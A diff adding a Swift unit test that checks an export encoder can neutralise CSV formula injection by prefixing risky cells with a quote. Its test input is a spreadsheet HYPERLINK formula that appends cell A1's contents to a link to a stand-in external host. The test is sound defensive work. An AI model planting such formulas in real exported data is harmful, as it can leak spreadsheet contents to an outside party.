@@ -33,6 +33,22 @@ struct ExportEncoderTests {
         #expect(line.hasSuffix(",test,tickets.jsonl,line 7\r\n"))
     }
 
+    @Test("asked to, CSV cells a spreadsheet would run as formulas start with a quote; by default text is exact")
+    func csvFormulas() {
+        var formula = record
+        formula.input = "=HYPERLINK(\"http://example.com/?\"&A1,\"Refund\")"
+        formula.response = "-1 is your balance"
+        formula.label = "@billing"
+        #expect(ExportEncoder(format: .csv).line(for: formula).hasPrefix("7,\"=HYPERLINK(\"\"http"))
+        let safe = ExportEncoder(format: .csv, escapeFormulas: true).line(for: formula)
+        #expect(
+            safe.hasPrefix(
+                "7,\"'=HYPERLINK(\"\"http://example.com/?\"\"&A1,\"\"Refund\"\")\",'-1 is your balance,'@billing,"))
+        for (text, expected) in [("+1", "'+1"), ("\tx", "'\tx"), ("a=b", "a=b"), ("", ""), ("Hi -", "Hi -")] {
+            #expect(CSVField.inert(text) == expected)
+        }
+    }
+
     @Test("chat examples: thread up to the last assistant turn, system prompt replacing the thread's own")
     func chatThread() {
         var threaded = record
